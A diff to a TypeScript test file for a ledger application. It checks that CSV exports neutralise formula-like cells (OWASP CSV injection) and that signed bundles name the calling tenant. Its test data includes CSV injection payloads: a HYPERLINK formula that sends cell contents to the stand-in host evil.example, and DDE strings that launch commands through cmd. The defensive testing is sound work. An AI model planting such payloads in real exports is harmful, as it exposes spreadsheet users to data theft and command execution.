@@ -15,9 +15,9 @@ const NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)$/;
 /** Hostile text in every free-text ledger field that reaches a form: accounts and trade ids. */
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?x="&A1,"click")',
-  '+cmd|\' /C calc\'!A0',
-  '-2+3+cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
 ];
 const csvText = (s: string) => `"${s.replace(/"/g, '""')}"`;
 const LEDGER = [
@@ -45,7 +45,10 @@ describe('CSV outputs neutralise formula-like cells (OWASP CSV injection)', () =
       const table = await cells(r.text);
       expect(table.length, format).toBeGreaterThan(4);
       const all = table.flat();
-      expect(all.filter((c) => FORMULA.test(c) && !NUMBER.test(c)), format).toEqual([]);
+      expect(
+        all.filter((c) => FORMULA.test(c) && !NUMBER.test(c)),
+        format,
+      ).toEqual([]);
       // the hostile text is still there, as text
       for (const h of HOSTILE) expect(all, format).toContain(`'${h}`);
     }
@@ -68,7 +71,13 @@ describe("a bundle's signed body names the tenant that produced it", () => {
   it('signs the caller tenant as institution and refuses a caller-typed institution', async () => {
     const w = await world();
     await w.importCsv(LEDGER);
-    const typed = await w.createBundle({ source: 'records', kind: 'generic', period: '2026', institution: 'Globex Bank plc', records: [{ id: 'r1' }] });
+    const typed = await w.createBundle({
+      source: 'records',
+      kind: 'generic',
+      period: '2026',
+      institution: 'Globex Bank plc',
+      records: [{ id: 'r1' }],
+    });
     expect([typed.status, typed.body.code, typed.body.details.issues[0].path]).toEqual([400, 'INPUT_INVALID', '/body']);
     const made = await w.createBundle({ source: 'records', kind: 'generic', period: '2026', records: [{ id: 'r1' }] });
     expect(made.status).toBe(201);
